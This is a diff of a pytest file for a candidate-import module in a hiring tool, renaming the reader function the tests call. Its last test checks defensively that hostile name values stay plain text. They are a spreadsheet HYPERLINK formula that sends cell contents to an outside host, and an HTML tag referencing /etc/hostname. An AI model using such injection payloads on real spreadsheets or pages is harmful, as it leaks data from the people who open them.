@@ -8,7 +8,8 @@ import pytest
 import xlsxwriter
 
 from cfhire.errors import ReadableError
-from cfhire.exchange.candidates_flat import flat_candidates, full_name, read_flat
+from cfhire.exchange.candidates import read_candidates
+from cfhire.exchange.candidates_flat import flat_candidates, full_name
 from cfhire.exchange.tables import table_of
 from cfhire.model.rows.candidates import CandidateEntry, CandidateImport
 
@@ -50,7 +51,7 @@ def test_protected_columns_are_dropped_and_named_and_unknown_ones_listed() -> No
 
 
 def test_a_german_export_in_the_old_encoding_is_read() -> None:
-    result = read_flat(FIXTURES / "latin1_semicolon.csv")
+    result = read_candidates(FIXTURES / "latin1_semicolon.csv")
     assert [entry.name for entry in result.entries][:3] == ["Jürgen Weiß", "Anneliese Groß", "Søren Ågård"]
     assert result.entries[0].applied_on == date(2026, 11, 3)
     assert result.dropped == ("Geburtsdatum", "Geschlecht")
@@ -64,7 +65,7 @@ def test_a_workbook_with_real_dates_and_numbers_is_read(tmp_path: Path) -> None:
         sheet.write_row(0, 0, ["Bewerber-ID", "Vorname", "Name", "Telefon", "Beworben am"])
         sheet.write_row(1, 0, [1017, "Åsa", "Öberg", 4930555012])
         sheet.write_datetime(1, 4, date(2026, 11, 3), book.add_format({"num_format": "dd.mm.yyyy"}))
-    (entry,) = read_flat(path).entries
+    (entry,) = read_candidates(path).entries
     assert (entry.external_id, entry.name, entry.phone) == ("1017", "Åsa Öberg", "4930555012")
     assert entry.applied_on == date(2026, 11, 3)
 
@@ -111,7 +112,7 @@ def test_a_workbook_keeps_percent_as_parts(tmp_path: Path) -> None:
         sheet.write_row(0, 0, ["Name", "Extra time (%)"])
         sheet.write_row(1, 0, ["Ai Mori", 0.25], book.add_format({"num_format": "0%"}))
         sheet.write_row(2, 0, ["Bo Lind", 50])
-    assert [entry.extra_percent for entry in read_flat(path).entries] == [25, 50]
+    assert [entry.extra_percent for entry in read_candidates(path).entries] == [25, 50]
 
 
 def test_a_table_without_a_name_column_says_what_it_has() -> None:
@@ -139,7 +140,7 @@ def test_names_are_put_together_as_people_write_them(parts: tuple[str, str, str,
 
 
 def test_hostile_names_stay_the_text_they_are() -> None:
-    result = read_flat(FIXTURES / "hostile_candidates.csv")
+    result = read_candidates(FIXTURES / "hostile_candidates.csv")
     names = [entry.name for entry in result.entries]
     assert '=HYPERLINK("http://example.org/?q="&A1,"Dana Kim")' in names
     assert "<img src=file:///etc/hostname>" in names
